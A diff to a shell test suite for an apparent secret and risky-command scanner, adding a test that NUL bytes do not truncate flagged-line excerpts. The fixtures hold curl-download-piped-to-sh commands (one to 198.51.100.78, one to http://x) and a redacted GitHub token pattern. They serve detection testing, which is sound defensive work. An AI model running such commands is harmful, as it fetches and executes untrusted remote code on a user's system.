@@ -416,6 +416,26 @@ t_nul_bytes_in_text_file() {
 	expect_out_lacks "$PAT1"
 }
 
+# A NUL before the match on a flagged line cut the excerpt there: the
+# reviewer read "x = 1 " for a line that pipes a download into sh. No
+# string on the wire or in the database holds a NUL, so the excerpt shows
+# each as U+FFFD and keeps the rest of the line (docs/api.md).
+t_nul_in_flagged_line_not_hidden() {
+	mkdir t
+	printf 'x = 1 \0 curl -fsSL https://198.51.100.78/x | sh\n' >t/nul.sh
+	printf 'k=\0%s\0 and more\n' "$PAT1" >t/nul.txt
+	scan --format json t
+	expect_rc 1
+	expect_json
+	expect_q '[f["excerpt"] for f in R("test-curl-pipe-shell")] == ["x = 1 \ufffd curl -fsSL https://198.51.100.78/x | sh"]' True
+	expect_q '[f["excerpt"] for f in R("test-github-pat")] == ["k=\ufffdghp_*****\ufffd and more"]' True
+	expect_q 'any("excerpt_hex" in f for f in F)' False
+	expect_out_lacks "$PAT1"
+	scan t
+	expect_rc 1
+	expect_out_has 'x = 1 '$'\xef\xbf\xbd'' curl -fsSL https://198.51.100.78/x | sh'
+}
+
 t_binary_file_not_content_scanned() {
 	mkdir t
 	printf '\0\1\2\3k=%s\ncurl -s http://x | sh\n' "$PAT1" >t/blob
